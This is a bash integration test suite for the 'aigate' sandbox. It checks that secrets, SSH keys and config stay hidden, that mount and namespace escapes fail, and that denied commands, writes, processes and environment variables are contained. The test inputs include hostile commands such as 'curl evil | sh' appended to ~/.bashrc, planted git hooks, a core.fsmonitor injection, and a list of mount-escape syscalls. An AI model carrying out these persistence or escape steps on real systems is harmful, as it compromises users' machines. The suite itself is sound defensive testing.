# shellcheck shell=bash
# shellcheck disable=SC2016,SC2034,SC2088 # $… in single quotes is for the sandbox's shell; AG_ENV/NOTE/LAST_CMD/STATUS are read by lib.sh; literal "~/" in messages
# test_sandbox.sh — what `aigate run` enforces, seen from inside the sandbox as
# the unprivileged test user: hidden files stay hidden (also against mount
# tricks), denied commands are stubs, writes land only in the write roots,
# the host's processes, environment and descriptors are out of reach, exit
# statuses and signals pass through, and nothing outlives the run.
#
# Most cases use the default policy minus its subcommand rules
# (write_cfg_enforceable): with those, this build refuses to run at all.

# This suite tests the sandbox (mounts, stubs, the supervisor's answers): the shim, which answers first for
# dynamic programs with a message and a record of its own, is left out
# (aigate run --no-shim); test_shim.sh and test_shim_channel.sh test it.
SUITE_RUN_OPTS=(--no-shim)

SECRET=aigate-fake-secret-7f3a9c01
SSH_SECRET=aigate-fake-ssh-key-52be19d4

# sbx_setup — the enforceable config and a project with .env files holding $SECRET.
sbx_setup() {
	write_cfg_enforceable
	write_file "$PROJ/.env" <<<"API_KEY=$SECRET"
	write_file "$PROJ/sub/dir/.env" <<<"DB_PASSWORD=$SECRET"
}

# as_user CMD… — run CMD natively (no aigate) as the test user in $CWD, clean env.
as_user() {
	(cd "$CWD" && env -i PATH="$CLEAN_PATH" HOME="$HOME_DIR" LANG=C.UTF-8 "${AS_USER[@]}" "$@")
}

# in_script NAME < content — a shell script in the project (the sandbox sees
# the project; /tmp is private). A script also hides a denied name from the
# launcher's command-line pre-check, so the in-sandbox enforcement is what answers.
in_script() {
	write_file "$PROJ/$1"
}

# unique_sleep — a sleep duration no other process uses, to find our sleeps by name.
unique_sleep() {
	printf '986.%05d%05d' "$RANDOM" "$$"
}

# ---- hidden files -------------------------------------------------------------

test_sandbox_env_file_denied() {
	sbx_setup
	# Control: outside the sandbox the test user reads the secret.
	[ "$(as_user cat .env)" = "API_KEY=$SECRET" ] || fail "setup: the test user cannot read $PROJ/.env natively"
	ag run -- cat .env
	assert_status 1
	assert_stdout_empty
	assert_stderr_contains "cat: .env: Permission denied"
	assert_stderr_contains "aigate: denied: open $PROJ/.env (deny_read \".env\", ~/.aigate/config.yaml:$(cfg_line .env))"
	assert_audit "$(audit_file)" action=open verdict=denied enforcer=supervisor target="$PROJ/.env" rule.text=.env
	ag run -- cat sub/dir/.env
	assert_status 1
	assert_stdout_empty
	# Also by absolute path, and from a subdirectory.
	ag_in "$PROJ/sub" run -- cat "$PROJ/.env" dir/.env
	assert_status 1
	assert_stdout_empty
	assert_audit "$(audit_file)" action=open verdict=denied target="$PROJ/sub/dir/.env"
	# The host's file is untouched.
	assert_file_contains "$PROJ/.env" "API_KEY=$SECRET"
}

# A hard link made before the run is the same file under another name: both
# names are hidden (an empty overmount), in the project and from a hidden
# directory, and the supervisor denies opening them, with a record.
test_sandbox_hard_links_to_secrets_hidden() {
	sbx_setup
	mkdir -p "$HOME_DIR/.ssh"
	write_file "$HOME_DIR/.ssh/id_rsa" <<<"KEY-$SECRET"
	ln "$PROJ/.env" "$PROJ/notes.txt" || fail "setup: ln"
	ln "$HOME_DIR/.ssh/id_rsa" "$PROJ/backup" || fail "setup: ln"
	fix_owner
	[ "$(as_user cat notes.txt)" = "API_KEY=$SECRET" ] || fail "setup: the test user cannot read notes.txt natively"
	ag run -- cat notes.txt backup
	assert_status 1
	assert_stdout_empty
	assert_stderr_contains "aigate: denied: open $PROJ/notes.txt (hard link to $PROJ/.env)"
	assert_audit "$(audit_file)" action=open verdict=denied "target=$PROJ/backup" \
		"rule.text=hard link to $HOME_DIR/.ssh/id_rsa" rule.origin=built-in
	ag run --dry-run -- true
	assert_stdout_contains "hard link to $PROJ/.env"
	assert_stdout_contains "hard link to $HOME_DIR/.ssh/id_rsa"
}

test_sandbox_ssh_dir_hidden() {
	sbx_setup
	write_file "$HOME_DIR/.ssh/id_rsa" <<<"$SSH_SECRET"
	chmod 0700 "$HOME_DIR/.ssh"
	[ "$(as_user cat "$HOME_DIR/.ssh/id_rsa")" = "$SSH_SECRET" ] || fail "setup: the test user cannot read ~/.ssh/id_rsa natively"
	ag run -- cat "$HOME_DIR/.ssh/id_rsa"
	assert_status 1
	assert_stderr_is "cat: $HOME_DIR/.ssh/id_rsa: No such file or directory"
	assert_stdout_not_contains "$SSH_SECRET"
	# The directory itself is denied (and, beneath, an empty mount).
	ag run -- ls -A "$HOME_DIR/.ssh"
	assert_status 2
	assert_stderr_contains "Permission denied"
	assert_stdout_empty
	assert_audit "$(audit_file)" action=open verdict=denied target="$HOME_DIR/.ssh"
}

test_sandbox_config_dir_hidden() {
	sbx_setup
	local sum
	sum=$(checksum "$CFG")
	as_user grep -q deny_read "$CFG" || fail "setup: the test user cannot read $CFG natively"
	ag run -- cat "$CFG"
	assert_status 1
	assert_stderr_is "cat: $CFG: No such file or directory"
	assert_stdout_not_contains "deny_read"
	ag run -- ls -A "$AG_HOME"
	assert_status 0
	assert_stdout_empty
	ag run -- sh -c 'echo "deny_read: []" >>"$1"' sh "$CFG"
	assert_status 2
	assert_stderr_contains "cannot create $CFG: Read-only file system"
	assert_eq "$(checksum "$CFG")" "$sum" "checksum of $CFG after the run"
	# Nor can a new file be put there.
	ag run -- touch "$AG_HOME/config.yaml.new"
	assert_status 1
	assert_stderr_is "touch: cannot touch '$AG_HOME/config.yaml.new': Read-only file system"
	assert_no_stray_files
}

# ---- mount tricks against the overmounts ------------------------------------------

# util-linux refuses to mount or unmount for a non-root user by itself; the
# hidden file must stay empty after each attempt.
test_sandbox_mount_tools_cannot_uncover() {
	sbx_setup
	local how
	for how in "umount .env" "umount -l .env" "mount --move .env /tmp/x" \
		"mount --bind .. /tmp/x" \
		"mount -t overlay overlay -o lowerdir=\$PWD,upperdir=/tmp/u,workdir=/tmp/w /tmp/x"; do
		NOTE=$how
		ag run -- sh -c 'mkdir -p /tmp/x /tmp/u /tmp/w; touch /tmp/x/f; '"$how"'; echo "status=$?"; cat .env /tmp/x/.env /tmp/x/proj/.env /tmp/x/f 2>/dev/null; true'
		assert_status 0
		assert_stdout_not_contains "$SECRET"
		assert_stdout_not_contains "status=0"
		assert_stdout_contains "status=32"
		assert_stderr_contains "must be superuser"
	done
}

# A new user namespace would give CAP_SYS_ADMIN over a new mount namespace:
# the filter denies unshare (and user.max_user_namespaces=0 would refuse it).
test_sandbox_unshare_cannot_uncover() {
	sbx_setup
	ag run -- unshare -rm sh -c 'umount -l .env; cat .env'
	assert_status 1
	assert_stderr_contains "unshare: unshare failed: Operation not permitted"
	assert_stdout_not_contains "$SECRET"
	ag run -- unshare -U true
	assert_status 1
	assert_stderr_contains "unshare: unshare failed: Operation not permitted"
	assert_audit "$(audit_file)" action=syscall syscall=unshare verdict=denied errno=EPERM
	# The sandbox's own limit is 0; the supervisor refuses to show it (it
	# would read its own namespace's value, not the sandbox's).
	ag run -- cat /proc/sys/user/max_user_namespaces
	assert_status 1
	assert_stderr_contains "aigate: denied: open /proc/sys/user/max_user_namespaces"
}

# The raw system calls, from a static binary (no libc wrapper can interfere):
# tests/redteam/mount_escape.c. It is first checked against a plain,
# unlocked overmount, where it must uncover the secret.
test_sandbox_mount_syscalls_cannot_uncover() {
	sbx_setup
	local bin=$PROJ/.mount_escape op
	redteam_cc mount_escape "$bin"
	mkdir -p "$T/scratch"
	fix_owner

	# Calibration: in a user namespace of its own with .env under a plain bind
	# mount (not locked, capabilities kept) the helper does uncover the secret.
	LAST_CMD="(natively) unshare -rm: mount --bind /dev/null .env; .mount_escape .env \$T/scratch"
	as_user unshare -rm sh -c 'mount --bind /dev/null .env && "$1" .env "$2"' sh "$bin" "$T/scratch" >"$OUT" 2>"$ERR"
	STATUS=$?
	if [ "$STATUS" != 0 ] && grep -q "unshare failed" "$ERR"; then
		skip "the host forbids unprivileged user namespaces: no calibration possible (and no sandbox)"
	fi
	assert_status 0
	assert_stdout_contains "direct read: (empty)"
	assert_stdout_contains "umount2-detach read: API_KEY=$SECRET"
	# Each attempt alone, on a fresh overmount, uncovers it too.
	for op in umount2 mount-move mount-bind-parent open_tree-clone-parent open_tree-clone-cwd \
		mount-overlay fsopen-overlay; do
		NOTE="calibration of $op"
		as_user unshare -rm sh -c 'mount --bind /dev/null .env && "$1" .env "$2" "$3"' sh "$bin" "$T/scratch" "$op" >"$OUT" 2>"$ERR"
		STATUS=$?
		assert_status 0
		grep -q "read: API_KEY=$SECRET" "$OUT" || fail "$op alone should uncover a plain overmount"
	done
	NOTE=

	ag run -- "$bin" .env /tmp
	assert_status 0
	assert_stdout_not_contains "$SECRET"
	assert_stdout_contains "direct read: EACCES (errno 13)"
	for op in umount2-detach umount2 mount-move mount-bind-parent open_tree-clone-parent \
		open_tree-clone-cwd mount-overlay fsopen-overlay; do
		NOTE="attempt $op"
		grep -qE "^$op: E[A-Z]+ \(errno [0-9]+\)\$" "$OUT" || fail "$op should fail with an errno"
	done
	NOTE=
	assert_stdout_contains "unshare-user-mount: EPERM (errno 1)"
	assert_audit "$(audit_file)" action=syscall syscall=umount2 verdict=denied errno=EPERM
	assert_stdout_not_contains ": ok"
	assert_stdout_not_contains "userns "
}

# ---- denied commands ------------------------------------------------------------

# The command line itself is refused before any sandbox exists.
test_sandbox_curl_precheck() {
	sbx_setup
	local msg
	msg="aigate: 'curl' is denied by policy (deny_exec: curl, ~/.aigate/config.yaml:$(cfg_line curl))"
	ag run -- curl http://example.com
	assert_status 126
	assert_stderr_is "$msg"
	assert_stdout_empty
	ag run -- /usr/bin/curl http://example.com
	assert_status 126
	assert_stderr_is "$msg"
	ag run -- sh -c 'curl http://example.com'
	assert_status 126
	assert_stderr_is "$msg"
}

# Inside the sandbox curl is denied by the supervisor (by name, by path) or,
# copied elsewhere or loaded by the dynamic loader, is the deny stub. The
# name is assembled at run time, so only the sandbox can answer.
test_sandbox_curl_stub() {
	sbx_setup
	local msg how curl
	curl=$(readlink -f "$(command -v curl)") || skip "curl is not installed on the host"
	msg="aigate: 'curl' is denied by policy (deny_exec: curl, ~/.aigate/config.yaml:$(cfg_line curl))"
	in_script try.sh <<'EOF'
c=cur; c=${c}l
case $1 in
name) exec $c http://example.com ;;
path) exec "$2" http://example.com ;;
copy) cp "$2" /tmp/c && exec /tmp/c http://example.com ;;
esac
EOF
	for how in name path; do
		NOTE=$how
		ag run -- sh ./try.sh "$how" "$curl"
		assert_status 126
		assert_stderr_contains "aigate: denied: exec $curl (deny_exec \"curl\", ~/.aigate/config.yaml:$(cfg_line curl))"
		assert_stdout_empty
		assert_audit "$(audit_file)" action=exec verdict=denied target="$curl" rule.text=curl
	done
	NOTE=copy
	ag run -- sh ./try.sh copy "$curl"
	assert_status 126
	assert_stderr_is "$msg"
	assert_stdout_empty
}

test_sandbox_curl_stub_via_loader() {
	sbx_setup
	local msg curl loader
	curl=$(readlink -f "$(command -v curl)") || skip "curl is not installed on the host"
	for loader in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 ""; do
		[ -e "$loader" ] && break
	done
	[ -n "$loader" ] || skip "no known dynamic loader path on this architecture"
	msg="aigate: 'curl' is denied by policy (deny_exec: curl, ~/.aigate/config.yaml:$(cfg_line curl))"
	in_script try.sh <<'EOF'
exec "$1" "$2" http://example.com
EOF
	ag run -- sh ./try.sh "$loader" "$curl"
	assert_status 126
	assert_stderr_is "$msg"
	assert_stdout_empty
}

# ---- writes ---------------------------------------------------------------------

test_sandbox_write_outside_denied() {
	sbx_setup
	# Control: natively the test user may write its home.
	as_user touch "$HOME_DIR/native" || fail "setup: the test user cannot write $HOME_DIR natively"
	ag run -- touch "$HOME_DIR/outside"
	assert_status 1
	assert_stderr_is "touch: cannot touch '$HOME_DIR/outside': Read-only file system"
	[ ! -e "$HOME_DIR/outside" ] || fail "$HOME_DIR/outside was created on the host"
	ag run -- touch /usr/x
	assert_status 1
	assert_stderr_is "touch: cannot touch '/usr/x': Read-only file system"
	[ ! -e /usr/x ] || fail "/usr/x was created on the host"
}

test_sandbox_write_project() {
	sbx_setup
	ag run -- sh -c 'echo data >new.txt && mkdir -p d/e && echo deep >d/e/f'
	assert_status 0
	assert_stderr_empty
	assert_eq "$(cat "$PROJ/new.txt")" "data" "content of new.txt on the host"
	assert_eq "$(cat "$PROJ/d/e/f")" "deep" "content of d/e/f on the host"
	assert_eq "$(stat -c %u:%g "$PROJ/new.txt")" "$TEST_UID:$TEST_GID" "owner of new.txt"
}

# /tmp is a private tmpfs: what is written there stays there, and the
# host's /tmp is not visible (only the mount points of home and project).
test_sandbox_tmp_private() {
	sbx_setup
	local name=aigate-it-private.$$.$RANDOM
	ag run -- sh -c 'echo x >"/tmp/$1" && cat "/tmp/$1" && ls -A /tmp' sh "$name"
	assert_status 0
	assert_stdout_is "x
$(printf '%s\n' "$(basename "$T")" "$name" | LC_ALL=C sort)"
	[ ! -e "/tmp/$name" ] || {
		rm -f "/tmp/$name"
		fail "/tmp/$name written in the sandbox appeared in the host's /tmp"
	}
}

test_sandbox_git_hooks_and_config_read_only() {
	sbx_setup
	local sum
	sum=$(checksum "$PROJ/.git/config")
	ag run -- sh -c 'echo "#!/bin/sh" >.git/hooks/pre-commit'
	assert_status 2
	assert_stderr_contains "cannot create .git/hooks/pre-commit: Read-only file system"
	[ ! -e "$PROJ/.git/hooks/pre-commit" ] || fail "a git hook was planted on the host"
	ag run -- sh -c 'printf "[core]\n\thooksPath = /tmp\n" >>.git/config'
	assert_status 2
	assert_stderr_contains "cannot create .git/config: Read-only file system"
	# git writes .git/config.lock, then cannot rename it over the read-only mount.
	ag run -- git config core.hooksPath /tmp
	assert_status 4
	assert_stderr_is "error: could not write config file .git/config: Device or resource busy"
	[ ! -e "$PROJ/.git/config.lock" ] || fail "a stale .git/config.lock was left on the host"
	assert_eq "$(checksum "$PROJ/.git/config")" "$sum" "checksum of .git/config"
}

# A repository without .git/hooks (git init --template=, some clone tools):
# a hooks directory created inside is run by the host's next commit.
test_sandbox_git_hooks_cannot_be_created() {
	sbx_setup
	rm -rf "$PROJ/.git/hooks"
	ag run -- sh -c 'mkdir .git/hooks && printf "#!/bin/sh\necho planted\n" >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
	[ ! -e "$PROJ/.git/hooks/pre-commit" ] || fail "a git hook was planted on the host (exit $STATUS): the host's next commit runs it"
	[ "$STATUS" != 0 ] || fail "planting the hook should fail"
}

# A submodule's git directory (.git/modules/NAME) holds its own hooks and
# config: core.fsmonitor there is run by the host's next `git status` in the
# superproject, so they must be as read-only as the superproject's.
test_sandbox_git_submodule_config_read_only() {
	sbx_setup
	local other=$T/other sum
	mkdir -p "$other"
	fix_owner
	LAST_CMD="(natively) git submodule add \$T/other mod"
	{ as_user git init -q "$other" &&
		as_user git -C "$other" -c user.name=t -c user.email=t@t commit -q --allow-empty -m init &&
		as_user git -c protocol.file.allow=always submodule add -q "$other" mod; } >"$OUT" 2>"$ERR" ||
		fail "setup: cannot add a submodule"
	[ -f "$PROJ/.git/modules/mod/config" ] || fail "setup: no .git/modules/mod/config"
	sum=$(checksum "$PROJ/.git/modules/mod/config")
	ag run -- sh -c 'printf "[core]\n\tfsmonitor = echo planted\n" >>.git/modules/mod/config'
	assert_eq "$(checksum "$PROJ/.git/modules/mod/config")" "$sum" \
		"checksum of .git/modules/mod/config (exit $STATUS): the host's next git status runs core.fsmonitor"
	assert_status 2
	assert_stderr_contains "cannot create .git/modules/mod/config: Read-only file system"
	ag run -- sh -c 'echo "echo planted" >.git/modules/mod/hooks/pre-commit'
	[ ! -e "$PROJ/.git/modules/mod/hooks/pre-commit" ] || fail "a hook was planted in the submodule's git directory"
	assert_status 2
}

# The rest of .git is the agent's to use: a commit made inside is on the host.
test_sandbox_git_commit() {
	sbx_setup
	write_file "$PROJ/a.txt" <<<"a"
	ag run -- sh -c 'git add a.txt && git -c user.name=t -c user.email=t@t commit -qm from-sandbox'
	assert_status 0
	assert_stderr_empty
	LAST_CMD="(natively) git log --oneline"
	as_user git -C "$PROJ" log --format=%s >"$OUT" 2>"$ERR"
	STATUS=$?
	assert_status 0
	assert_stdout_is "from-sandbox"
}

# With the home directory as the project root, the home is writable but the
# shell's rc files stay read-only.
test_sandbox_home_as_project_rc_read_only() {
	sbx_setup
	write_file "$HOME_DIR/.bashrc" <<<"# rc"
	git init -q "$HOME_DIR" || fail "setup: git init $HOME_DIR"
	fix_owner
	local sum
	sum=$(checksum "$HOME_DIR/.bashrc")
	# Home as a write root cannot protect rc files that do not exist yet (see
	# the next case): only --allow-degraded runs here, and existing ones stay
	# read-only even then.
	ag_in "$HOME_DIR" run --allow-degraded -- touch "$HOME_DIR/ok"
	assert_status 0
	[ -e "$HOME_DIR/ok" ] || fail "the project root (home) should be writable"
	ag_in "$HOME_DIR" run --allow-degraded -- sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc"'
	assert_status 2
	assert_stderr_contains "cannot create $HOME_DIR/.bashrc: Read-only file system"
	assert_eq "$(checksum "$HOME_DIR/.bashrc")" "$sum" "checksum of ~/.bashrc"
}

# The same for rc files that do not exist yet: creating ~/.bash_profile or
# ~/.profile plants code the host's next login shell runs. There is nothing to
# mount over, and an empty placeholder would change how the shell starts, so
# aigate refuses to run (fail closed) and names each file.
test_sandbox_home_as_project_rc_cannot_be_created() {
	sbx_setup
	write_file "$HOME_DIR/.bashrc" <<<"# rc"
	git init -q "$HOME_DIR" || fail "setup: git init $HOME_DIR"
	fix_owner
	local f
	for f in .bash_profile .profile .zshrc; do
		NOTE="~/$f"
		ag_in "$HOME_DIR" run -- sh -c 'echo "echo planted" >"$HOME/$1"' sh "$f"
		[ ! -e "$HOME_DIR/$f" ] || fail "~/$f was created on the host (exit $STATUS): the host's next shell runs it"
		assert_status 125
		assert_stderr_contains "aigate: error: $HOME_DIR/$f cannot be enforced in this build (it does not exist and could be created"
		assert_stderr_contains "refusing to run 'sh'"
	done
}

# ---- processes ------------------------------------------------------------------

test_sandbox_cannot_kill_host_process() {
	sbx_setup
	local dur pid
	dur=$(unique_sleep)
	env -i PATH="$CLEAN_PATH" "${AS_USER[@]}" sleep "$dur" &
	pid=$!
	kill_later "$pid"
	# env execs setpriv, setpriv execs sleep: the same pid once they have.
	local i
	for ((i = 0; i < 200; i++)); do
		[ "$(cat "/proc/$pid/comm" 2>/dev/null)" = sleep ] && break
		sleep 0.05
	done
	[ "$(cat "/proc/$pid/comm" 2>/dev/null)" = sleep ] || fail "setup: the host sleep did not start"
	ag run -- kill "$pid"
	assert_status 1
	assert_stderr_contains "No such process"
	# Every process the caller may signal: in the sandbox, none but itself and init.
	ag run -- sh -c 'kill -KILL -1'
	assert_status 1
	assert_stderr_contains "kill: No such process"
	proc_alive "$pid" || fail "the host's sleep (pid $pid, same uid) was killed from the sandbox"
	ag run -- ps -e -o pid=,comm=
	assert_status 0
	assert_stdout_not_contains "sleep"
	# Only the sandbox's init (aigate) and ps itself.
	assert_eq "$(awk '{print $1, $2}' "$OUT" | tr '\n' ' ')" "1 aigate 2 ps " "ps -e in the sandbox"
}

# ---- exit statuses ----------------------------------------------------------------

test_sandbox_exit_status() {
	sbx_setup
	ag run -- sh -c 'exit 7'
	assert_status 7
	assert_stderr_empty
	ag run -- sh -c 'kill -TERM $$'
	assert_status 143
	ag run -- sh -c 'kill -KILL $$'
	assert_status 137
	ag run -- no-such-cmd-xyz
	assert_status 127
	assert_stderr_is "aigate: error: cannot run 'no-such-cmd-xyz': No such file or directory"
	write_file "$PROJ/notexec" <<<"echo hi"
	chmod 0644 "$PROJ/notexec"
	ag run -- ./notexec
	assert_status 126
	assert_stderr_is "aigate: error: cannot run './notexec': Permission denied"
	assert_stdout_empty
}

# SIGTERM to aigate reaches CMD, which handles it; its status is aigate's.
test_sandbox_signal_forwarded() {
	sbx_setup
	local pid dur line real
	dur=$(unique_sleep)
	mkfifo "$PROJ/ready.fifo"
	fix_owner
	in_script trap.sh <<EOF
trap 'echo got-term; exit 9' TERM
echo READY >ready.fifo
sleep $dur &
wait \$!
echo not-reached
EOF
	LAST_CMD="(background) aigate run -- sh ./trap.sh"
	# No timeout wrapper here: the subshell execs env, setpriv and aigate, so $! is aigate.
	(
		cd "$PROJ" || exit 99
		exec env -i PATH="$CLEAN_PATH" HOME="$HOME_DIR" AIGATE_HOME="$AG_HOME" NO_COLOR=1 \
			LANG=C.UTF-8 "${AS_USER[@]}" "$AIGATE" run -- sh ./trap.sh
	) >"$OUT" 2>"$ERR" &
	pid=$!
	kill_later "$pid"
	line=$(timeout 20 cat "$PROJ/ready.fifo")
	assert_eq "$line" "READY" "readiness from the sandbox"
	real=$(readlink -f "$AIGATE")
	assert_eq "$(readlink "/proc/$pid/exe")" "$real" "the process signalled is aigate itself"
	kill -TERM "$pid"
	wait_gone "$pid" || fail "aigate did not exit within 10 s of SIGTERM"
	wait "$pid"
	STATUS=$?
	KILL_AT_EXIT= # reaped: the pid may be reused
	assert_status 9
	assert_stdout_is "got-term"
	pgrep -f "sleep $dur" >/dev/null && fail "the sandbox's sleep outlived the run"
	return 0
}

# Background processes and daemons die with the sandbox: aigate returns only
# after the sandbox's init is gone, and with it the PID namespace.
test_sandbox_nothing_outlives() {
	sbx_setup
	local dur
	dur=$(unique_sleep)
	ag run -- sh -c 'sleep "$1" & setsid sleep "$1" & (setsid sh -c "sleep $1 &" &); nohup sleep "$1" >/dev/null 2>&1 & exit 0' sh "$dur"
	assert_status 0
	if pgrep -f "sleep $dur" >/dev/null; then
		pkill -KILL -f "sleep $dur"
		fail "processes started in the sandbox outlived the run"
	fi
}

# After a run the host's /tmp and /dev/shm hold nothing new of the test user,
# and the project only what the command made.
test_sandbox_no_leftovers() {
	sbx_setup
	local before after shm_before shm_after
	# The harness's own per-case and per-run directories come and go with other cases.
	list_tmp() {
		find /tmp /dev/shm -mindepth 1 -maxdepth 1 -user "$TEST_UID" 2>/dev/null |
			grep -vE '^/tmp/aigate-it(-run)?\.[A-Za-z0-9]{8}$' | sort
	}
	before=$(list_tmp)
	ag run -- sh -c 'echo made >created.txt; echo x >/tmp/scratch; echo y >/dev/shm/scratch'
	assert_status 0
	after=$(list_tmp)
	assert_eq "$after" "$before" "entries of the test user in /tmp and /dev/shm"
	LAST_CMD="(natively) git status --porcelain --ignored"
	as_user git -C "$PROJ" status --porcelain --ignored >"$OUT" 2>"$ERR"
	STATUS=$?
	assert_status 0
	assert_stdout_is "?? .env
?? created.txt
?? sub/"
}

# ---- environment and descriptors ----------------------------------------------------

test_sandbox_environment_filtered() {
	sbx_setup
	printf 'deny_env: ["*_TOKEN", "AWS_*"]\n' >>"$CFG"
	AG_ENV=(SSH_AUTH_SOCK=/x DBUS_SESSION_BUS_ADDRESS=y DOCKER_HOST=z MY_TOKEN=t
		AWS_SECRET_ACCESS_KEY=s XDG_RUNTIME_DIR=/run/user/1 DISPLAY=:0 "TMUX=/t 1 0"
		AIGATE_SANDBOX=0 KEEP_ME=k)
	ag run -- env
	assert_status 0
	local v
	for v in SSH_AUTH_SOCK DBUS_SESSION_BUS_ADDRESS DOCKER_HOST MY_TOKEN AWS_SECRET_ACCESS_KEY \
		XDG_RUNTIME_DIR DISPLAY TMUX AIGATE_HOME; do
		grep -q "^$v=" "$OUT" && fail "$v should not reach the sandbox"
	done
	grep -qx "AIGATE_SANDBOX=1" "$OUT" || fail "AIGATE_SANDBOX=1 should be set"
	[ "$(grep -c '^AIGATE_SANDBOX=' "$OUT")" = 1 ] || fail "AIGATE_SANDBOX should be set once"
	grep -qx "KEEP_ME=k" "$OUT" || fail "an ordinary variable should pass"
	grep -qx "HOME=$HOME_DIR" "$OUT" || fail "HOME should pass"

	printf 'pass_env: [SSH_AUTH_SOCK]\n' >>"$CFG"
	ag run -- env
	assert_status 0
	grep -qx "SSH_AUTH_SOCK=/x" "$OUT" || fail "pass_env: [SSH_AUTH_SOCK] should keep it"
	grep -q "^DOCKER_HOST=" "$OUT" && fail "DOCKER_HOST should still be dropped"
	grep -q "^MY_TOKEN=" "$OUT" && fail "MY_TOKEN should still be dropped"
	return 0
}

test_sandbox_inherited_fds_closed() {
	sbx_setup
	exec 7>"$T/fd7" 8<"$CFG"
	# Control: natively ls inherits them.
	LAST_CMD="(natively) ls /proc/self/fd"
	as_user ls /proc/self/fd >"$OUT" 2>"$ERR"
	STATUS=$?
	grep -qx 7 "$OUT" || fail "setup: fd 7 is not inherited natively"
	ag run -- ls /proc/self/fd
	assert_status 0
	exec 7>&- 8<&-
	# 3 is the directory ls opened itself.
	assert_eq "$(tr '\n' ' ' <"$OUT")" "0 1 2 3 " "fds of ls in the sandbox"
}

test_sandbox_no_privileges() {
	sbx_setup
	ag run -- cat /proc/self/status
	assert_status 0
	local f
	for f in CapInh CapPrm CapEff CapBnd CapAmb; do
		grep -qxE "$f:[[:space:]]+0000000000000000" "$OUT" || fail "$f should be all zero"
	done
	grep -qxE "NoNewPrivs:[[:space:]]+1" "$OUT" || fail "NoNewPrivs should be 1"
	ag run -- id -u
	assert_stdout_is "$TEST_UID"
}

# ---- --dry-run and option parsing ----------------------------------------------------

# plan_has KIND PATH — the dry run's "mounts, in order" lists KIND on PATH.
plan_has() {
	awk -v k="$1" -v p="$2" '$1 == k && $2 == p { found = 1 } END { exit !found }' "$OUT" ||
		fail "the plan should list: $1 $2"
}

test_sandbox_dry_run_default_policy() {
	write_file "$PROJ/.env" <<<"API_KEY=$SECRET"
	write_cfg <"$ROOT/policy/default-policy.yaml"
	local curl home_before
	curl=$(readlink -f "$(command -v curl)") || skip "curl is not installed on the host"
	home_before=$(cd "$HOME_DIR" && find . | sort)
	ag run --dry-run -- touch "$PROJ/ran"
	assert_status 0
	assert_stderr_empty
	assert_stdout_contains "aigate run --dry-run: the sandbox for 'touch' (nothing is run)"
	assert_stdout_contains "namespaces: user (uid $TEST_UID -> $TEST_UID, gid $TEST_GID -> $TEST_GID), mount, pid"
	assert_stdout_contains "mounts, in order:"
	plan_has hide-file "$PROJ/.env"
	grep -qF "deny_read \".env\" (~/.aigate/config.yaml:$(cfg_line .env))" "$OUT" || fail "the .env hide should cite its rule"
	plan_has stub "$curl"
	plan_has hide-dir "$AG_HOME"
	plan_has read-only "$PROJ/.git/hooks"
	plan_has read-only "$PROJ/.git/config"
	plan_has writable "$PROJ"
	plan_has tmpfs /tmp
	plan_has proc /proc
	assert_stdout_contains "environment: AIGATE_SANDBOX=1 added"
	assert_stdout_contains "process: no_new_privs, every capability dropped, user.max_user_namespaces=0"
	assert_stdout_not_contains "needs the seccomp supervisor"
	assert_stdout_not_contains "$SECRET"
	[ ! -e "$PROJ/ran" ] || fail "--dry-run ran the command"
	assert_eq "$(cd "$HOME_DIR" && find . | sort)" "$home_before" "the home after --dry-run (it must change nothing)"
}

# Options after CMD are CMD's.
test_sandbox_options_after_command() {
	sbx_setup
	ag run sh -c 'echo "$1 $2"' x --version -d
	assert_status 0
	assert_stdout_is "--version -d"
	local link
	link=$(aigate_run_link)
	ag_bin "$link" sh -c 'echo ok' --help
	assert_status 0
	assert_stdout_is "ok"
	assert_stderr_empty
}

# With the default policy's allow_net and resource_limits --allow-degraded
# runs in the sandbox all the same: it gives up only those.
test_sandbox_degraded_still_sandboxed() {
	write_file "$PROJ/.env" <<<"API_KEY=$SECRET"
	ag run --allow-degraded -- sh -c 'cat .env; touch "$HOME/outside"'
	assert_status 1
	assert_stdout_empty
	assert_stderr_contains "aigate: warning: resource_limits.max_cpu_percent cannot be enforced in this build"
	assert_stderr_contains "cat: .env: Permission denied"
	assert_stderr_contains "touch: cannot touch '$HOME_DIR/outside': Read-only file system"
}

# ---- findings of the security review ------------------------------------------

# Renaming .git aside and building a new one would dodge the read-only hooks
# and config: .git (and every directory on the way to a protected path) is a
# mount point inside, which cannot be renamed.
test_sandbox_git_dir_cannot_be_renamed_away() {
	sbx_setup
	fix_owner
	in_script swap.sh <<'EOS'
mv .git .git-orig && mkdir .git && cp -r .git-orig/objects .git-orig/refs .git-orig/HEAD .git/ &&
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "echo PLANTED > /tmp/aigate-fsmon-planted"\n' > .git/config
EOS
	ag run -- sh ./swap.sh
	[ "$STATUS" -ne 0 ] || fail "swapping .git must fail inside"
	assert_stderr_contains "Device or resource busy"
	[ -d "$PROJ/.git" ] && [ ! -e "$PROJ/.git-orig" ] || fail ".git was moved on the host"
	assert_file_not_contains "$PROJ/.git/config" "fsmonitor"
}

# A symlinked .git/hooks could be replaced from inside: run refuses and says why.
test_sandbox_symlinked_hooks_refused() {
	sbx_setup
	mkdir -p "$PROJ/tools/hooks"
	rm -rf "$PROJ/.git/hooks"
	ln -s ../tools/hooks "$PROJ/.git/hooks"
	fix_owner
	ag run -- true
	assert_status 125
	assert_stderr_contains "$PROJ/.git/hooks cannot be enforced in this build (it is a symlink in a writable directory"
}

# A repository nested in the project (vendored, not a submodule) is protected too.
test_sandbox_nested_repo_protected() {
	sbx_setup
	mkdir -p "$PROJ/vendor/lib"
	git init -q "$PROJ/vendor/lib" || fail "setup: git init"
	fix_owner
	ag run -- sh -c 'echo "#!/bin/sh" > vendor/lib/.git/hooks/pre-commit'
	assert_status 2
	assert_stderr_contains "Read-only file system"
	[ ! -e "$PROJ/vendor/lib/.git/hooks/pre-commit" ] || fail "hook planted in the nested repository"
}

# The sandbox gets a devpts instance of its own: the user's other terminals
# (host /dev/pts/N, owned by the user) are not there to read or write.
test_sandbox_host_ptys_unreachable() {
	sbx_setup
	ag run -- sh -c 'ls /dev/pts'
	assert_status 0
	assert_stdout_is "ptmx"
}

# Host SysV IPC stays outside (a new IPC namespace).
test_sandbox_host_ipc_unreachable() {
	sbx_setup
	command -v ipcmk >/dev/null || skip "ipcmk (util-linux) not installed"
	local id
